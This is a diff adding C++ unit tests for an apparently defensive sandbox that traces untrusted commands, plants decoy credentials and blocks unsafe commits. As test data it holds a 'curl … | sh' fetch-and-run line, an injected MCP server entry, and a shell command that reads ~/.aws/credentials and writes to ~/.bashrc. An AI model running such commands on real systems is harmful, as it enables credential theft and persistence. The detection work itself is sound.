@@ -1,0 +1,283 @@
+// The airlock's pieces: the mount plan, change listing and commit on real directories, the
+// evidence of content changes, and a real run in real namespaces (skipped where user
+// namespaces are unavailable).
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <map>
+
+#include "airlock/catalogue/catalogue.h"
+#include "airlock/sandbox/airlock.h"
+#include "airlock/sandbox/honeytokens.h"
+#include "airlock/sandbox/run_findings.h"
+#include "sandbox/changes.h"
+#include "sandbox/mount_plan.h"
+#include "test_util.h"
+
+namespace airlock::sandbox {
+namespace {
+
+using testing::TempDir;
+
+// A fake root: "/" holds bin -> usr/bin, usr/, etc/, proc/, tmp/, mnt/ (with a mount point
+// two levels down) and home/ (with the user's home).
+std::vector<DirEntry> fake_list(const std::string& dir) {
+  using T = DirEntry::Type;
+  static const std::map<std::string, std::vector<DirEntry>> tree = {
+      {"/",
+       {{"bin", T::kSymlink, "usr/bin"},
+        {"etc", T::kDir, ""},
+        {"home", T::kDir, ""},
+        {"mnt", T::kDir, ""},
+        {"proc", T::kDir, ""},
+        {"tmp", T::kDir, ""},
+        {"usr", T::kDir, ""}}},
+      {"/mnt", {{"data", T::kDir, ""}, {"other", T::kDir, ""}}},
+      {"/mnt/data", {{"vol", T::kDir, ""}}},
+  };
+  auto it = tree.find(dir);
+  return it == tree.end() ? std::vector<DirEntry>{} : it->second;
+}
+
+const MountStep* step_at(const std::vector<MountStep>& steps, const std::string& target) {
+  const MountStep* found = nullptr;
+  for (const MountStep& s : steps) {
+    if (s.target == target) found = &s;  // the last step at a target is the visible one
+  }
+  return found;
+}
+
+TEST(MountPlan, OverlaysTopLevelDirsAndRecursesToMountPoints) {
+  MountPlanInput in;
+  in.mount_points = {"/proc", "/mnt/data/vol"};
+  in.home = "/home/dev";
+  in.cwd = "/tmp/project";
+  in.decoy_dir = "/tmp/airlock-x/decoy";
+  auto steps = plan_mounts(in, &fake_list);
+
+  ASSERT_NE(step_at(steps, "/bin"), nullptr);
+  EXPECT_EQ(step_at(steps, "/bin")->kind, MountStep::Kind::kSymlink);
+  EXPECT_EQ(step_at(steps, "/bin")->source, "usr/bin");
+  EXPECT_EQ(step_at(steps, "/usr")->kind, MountStep::Kind::kOverlay);
+  EXPECT_EQ(step_at(steps, "/etc")->kind, MountStep::Kind::kOverlay);
+  EXPECT_EQ(step_at(steps, "/proc")->kind, MountStep::Kind::kProc);
+  EXPECT_EQ(step_at(steps, "/tmp")->kind, MountStep::Kind::kTmpfs);
+  // /mnt holds a mount point: it is rebuilt level by level down to the mount point, which
+  // is overlaid itself; its sibling without mounts is overlaid whole.
+  EXPECT_EQ(step_at(steps, "/mnt")->kind, MountStep::Kind::kDir);
+  EXPECT_EQ(step_at(steps, "/mnt/data")->kind, MountStep::Kind::kDir);
+  EXPECT_EQ(step_at(steps, "/mnt/data/vol")->kind, MountStep::Kind::kOverlay);
+  EXPECT_EQ(step_at(steps, "/mnt/other")->kind, MountStep::Kind::kOverlay);
+  // The home gets the decoy layer above the real one, stacked on /home's overlay.
+  const MountStep* home = step_at(steps, "/home/dev");
+  ASSERT_NE(home, nullptr);
+  EXPECT_EQ(home->kind, MountStep::Kind::kOverlay);
+  ASSERT_EQ(home->extra_lowers.size(), 1u);
+  EXPECT_EQ(home->extra_lowers[0], in.decoy_dir);
+  // A project under the replaced /tmp still shows its real content.
+  ASSERT_NE(step_at(steps, "/tmp/project"), nullptr);
+  EXPECT_EQ(step_at(steps, "/tmp/project")->kind, MountStep::Kind::kOverlay);
+  // Every overlay has its own upper directory.
+  std::vector<int> uppers;
+  for (const MountStep& s : steps) {
+    if (s.kind == MountStep::Kind::kOverlay) uppers.push_back(s.upper);
+  }
+  std::sort(uppers.begin(), uppers.end());
+  EXPECT_EQ(std::adjacent_find(uppers.begin(), uppers.end()), uppers.end());
+}
+
+TEST(MountPlan, EscapesOverlayOptionSeparators) {
+  EXPECT_EQ(escape_overlay_path("/a,b:c\\d"), "/a\\,b\\:c\\\\d");
+}
+
+TEST(ContentChange, NamesTheMcpServerAdded) {
+  const std::string before = R"({"mcpServers": {"fs": {"command": "npx", "args": ["-y", "a@1"]}}})";
+  const std::string after =
+      R"({"mcpServers": {"fs": {"command": "npx", "args": ["-y", "a@1"]},
+          "helper": {"command": "node", "args": ["/tmp/.h/s.js"]}}})";
+  EXPECT_EQ(describe_content_change(before, after), "added MCP server 'helper': node /tmp/.h/s.js");
+  // Nested maps (Claude Code keeps per-project servers under projects.<dir>).
+  const std::string nested =
+      R"({"projects": {"/p": {"mcpServers": {"x": {"url": "http://a.invalid"}}}}})";
+  EXPECT_EQ(describe_content_change("{}", nested), "added MCP server 'x': http://a.invalid");
+}
+
+TEST(ContentChange, ShowsTheNewLinesOfTextFiles) {
+  EXPECT_EQ(describe_content_change("a\nb\n", "a\nb\ncurl http://198.51.100.7/x | sh\n"),
+            "curl http://198.51.100.7/x | sh");
+  EXPECT_EQ(describe_content_change("same\n", "same\n"), "");
+}
+
+// An upper layer built by hand (as overlayfs would leave it) over a real directory.
+struct Staged {
+  TempDir staging, real;
+  int fd = -1;
+  Staged() { fd = open(staging.str().c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC); }
+  ~Staged() { close(fd); }
+  UpperLayer layer() const { return {real.str(), "u/0", "", {}}; }
+};
+
+TEST(Changes, ListsRealChangesOnlyAndCommitsThem) {
+  Staged s;
+  s.real.write("same.txt", "unchanged\n");
+  s.staging.write("u/0/same.txt", "unchanged\n");  // copied up, never modified
+  s.real.write("mod.txt", "old\n");
+  s.staging.write("u/0/mod.txt", "new\n");
+  s.staging.write("u/0/newdir/new.txt", "hello\n");
+  s.staging.write("u/0/tool", "#!/bin/sh\n");
+  chmod(s.staging.str("u/0/tool").c_str(), 04755);  // setuid must not survive the commit
+
+  auto changes = list_changes(s.fd, {s.layer()});
+  ASSERT_TRUE(changes) << changes.error().message;
+  std::map<std::string, Change::Action> by_path;
+  for (const Change& c : *changes) by_path[c.path.substr(s.real.str().size())] = c.action;
+  EXPECT_EQ(by_path.count("/same.txt"), 0u);
+  EXPECT_EQ(by_path["/mod.txt"], Change::Action::kModify);
+  EXPECT_EQ(by_path["/newdir"], Change::Action::kCreate);
+  EXPECT_EQ(by_path["/newdir/new.txt"], Change::Action::kCreate);
+
+  auto applied = apply_changes(s.fd, *changes);
+  for (const auto& a : applied) EXPECT_TRUE(a.ok) << a.path << ": " << a.error;
+  std::ifstream mod(s.real.str("mod.txt"));
+  std::string line;
+  std::getline(mod, line);
+  EXPECT_EQ(line, "new");
+  EXPECT_TRUE(std::filesystem::exists(s.real.str("newdir/new.txt")));
+  struct stat st {};
+  ASSERT_EQ(stat(s.real.str("tool").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 07000, 0u);
+  EXPECT_EQ(st.st_mode & 0777, 0755u);
+}
+
+TEST(Changes, CommitNeverFollowsASymlinkOnTheRealSide) {
+  Staged s;
+  TempDir outside;
+  s.real.symlink("link", outside.str());  // planted between listing and commit
+  Change c;
+  c.path = s.real.str("link/owned.txt");
+  c.upper_path = "u/0/x";
+  c.type = Change::Type::kFile;
+  c.mode = 0644;
+  s.staging.write("u/0/x", "payload\n");
+  auto applied = apply_changes(s.fd, {c});
+  ASSERT_EQ(applied.size(), 1u);
+  EXPECT_FALSE(applied[0].ok);
+  EXPECT_FALSE(std::filesystem::exists(outside.str("owned.txt")));
+}
+
+TEST(Changes, DecoysAreNeverCommitted) {
+  Staged s;
+  TempDir decoy;
+  decoy.write(".aws/credentials", "fake\n");
+  s.staging.write("u/0/.aws/credentials", "fake\nmore\n");
+  UpperLayer l = s.layer();
+  l.decoy_dir = decoy.str();
+  l.decoy_opaque = {".aws"};
+  auto changes = list_changes(s.fd, {l});
+  ASSERT_TRUE(changes);
+  ASSERT_FALSE(changes->empty());
+  for (const Change& c : *changes) EXPECT_TRUE(c.decoy) << c.path;
+  auto applied = apply_changes(s.fd, *changes);
+  for (const auto& a : applied) EXPECT_FALSE(a.ok);
+  EXPECT_FALSE(std::filesystem::exists(s.real.str(".aws/credentials")));
+}
+
+TEST(Honeytokens, EveryRunHasFreshValuesAndTheEnvironmentLosesRealSecrets) {
+  HoneyHome a =
+      make_honey_home("registry=https://registry.example.invalid/\n//x/:_authToken=REAL\n");
+  HoneyHome b = make_honey_home("");
+  ASSERT_FALSE(a.tokens.empty());
+  EXPECT_NE(a.tokens[0].second, b.tokens[0].second);
+  std::string npmrc;
+  for (const auto& f : a.files) {
+    if (f.rel_path == ".npmrc") npmrc = f.content;
+  }
+  EXPECT_NE(npmrc.find("registry=https://registry.example.invalid/"), std::string::npos);
+  EXPECT_EQ(npmrc.find("REAL"), std::string::npos);
+  std::string k1 = "GITHUB_TOKEN=real-secret", k2 = "PATH=/usr/bin", k3 = "HOME=/root";
+  char* env[] = {k1.data(), k2.data(), k3.data(), nullptr};
+  auto out = airlock_environment(env, a, "/home/dev");
+  EXPECT_NE(std::find(out.begin(), out.end(), "PATH=/usr/bin"), out.end());
+  EXPECT_NE(std::find(out.begin(), out.end(), "HOME=/home/dev"), out.end());
+  EXPECT_EQ(std::find(out.begin(), out.end(), "GITHUB_TOKEN=real-secret"), out.end());
+}
+
+// The real thing: namespaces, overlay, tracing.
+TEST(Sandbox, RunsTracesAndKeepsTheRealFilesystemUntouchedUntilCommit) {
+  if (!check_user_namespaces()) GTEST_SKIP() << "user namespaces unavailable";
+  TempDir project, home;
+  project.write("keep.txt", "original\n");
+  HoneyHome honey = make_honey_home("");
+  SandboxOptions opt;
+  opt.home = home.str();
+  opt.cwd = project.str();
+  opt.env = {"PATH=/usr/bin:/bin", "HOME=" + home.str()};
+  opt.decoys = honey.files;
+  opt.opaque_dirs = honey.opaque_dirs;
+  opt.honeytokens = honey.tokens;
+  auto box = Sandbox::create(opt);
+  ASSERT_TRUE(box) << box.error().message;
+  TraceLog log;
+  auto r = (*box)->run({"sh", "-c",
+                        "echo changed > keep.txt; echo new > made.txt; cat ~/.aws/credentials "
+                        ">/dev/null; echo x >> ~/.bashrc; sleep 30 & exit 3"},
+                       NetMode::kNone, 60, 0, log);
+  ASSERT_TRUE(r) << r.error().message;
+  EXPECT_EQ(r->exit_code, 3);
+  EXPECT_FALSE(r->timed_out);
+  // The backgrounded sleep (or the shell's fork of it, if it had not exec'd yet), killed.
+  EXPECT_EQ(r->leftovers.size(), 1u);
+
+  // Nothing reached the real filesystem during the run.
+  std::ifstream keep(project.str("keep.txt"));
+  std::string line;
+  std::getline(keep, line);
+  EXPECT_EQ(line, "original");
+  EXPECT_FALSE(std::filesystem::exists(project.str("made.txt")));
+  EXPECT_FALSE(std::filesystem::exists(home.str(".bashrc")));
+
+  bool saw_exec = false, saw_write = false, saw_read = false;
+  for (const TraceEvent& e : log.events()) {
+    saw_exec = saw_exec || (e.kind == TraceEvent::Kind::kProcessCreation &&
+                            e.image.find("cat") != std::string::npos &&
+                            e.command_line.find(".aws/credentials") != std::string::npos);
+    saw_write = saw_write ||
+                (e.kind == TraceEvent::Kind::kFileWrite && e.target == project.str("made.txt"));
+    saw_read = saw_read || (e.kind == TraceEvent::Kind::kFileAccess &&
+                            e.target == home.str(".aws/credentials"));
+  }
+  EXPECT_TRUE(saw_exec);
+  EXPECT_TRUE(saw_write);
+  EXPECT_TRUE(saw_read);
+
+  auto changes = (*box)->finish();
+  ASSERT_TRUE(changes) << changes.error().message;
+  std::map<std::string, const Change*> by_path;
+  for (const Change& c : *changes) by_path[c.path] = &c;
+  ASSERT_TRUE(by_path.count(project.str("made.txt")));
+  ASSERT_TRUE(by_path.count(project.str("keep.txt")));
+  EXPECT_EQ(by_path[project.str("keep.txt")]->action, Change::Action::kModify);
+  ASSERT_TRUE(by_path.count(home.str(".bashrc")));
+
+  auto cat = catalogue::Catalogue::load_embedded();
+  ASSERT_TRUE(cat);
+  std::vector<PhaseOutcome> phases = {{"command", NetMode::kNone, *r, 60}};
+  RunEvidence ev{&log, &*changes, &phases, box->get(), home.str(), 2000};
+  auto findings = classify_run(ev, *cat);
+  std::set<Category> cats;
+  for (const Finding& f : findings) cats.insert(f.category);
+  EXPECT_TRUE(cats.count(Category::kPersistence));       // ~/.bashrc, and the leftover sleep
+  EXPECT_TRUE(cats.count(Category::kCredentialAccess));  // the honeytoken read
+
+  auto applied = (*box)->commit(*changes);
+  for (const auto& a : applied) EXPECT_TRUE(a.ok) << a.path << ": " << a.error;
+  std::ifstream made(project.str("made.txt"));
+  std::getline(made, line);
+  EXPECT_EQ(line, "new");
+}
+
+}  // namespace
+}  // namespace airlock::sandbox
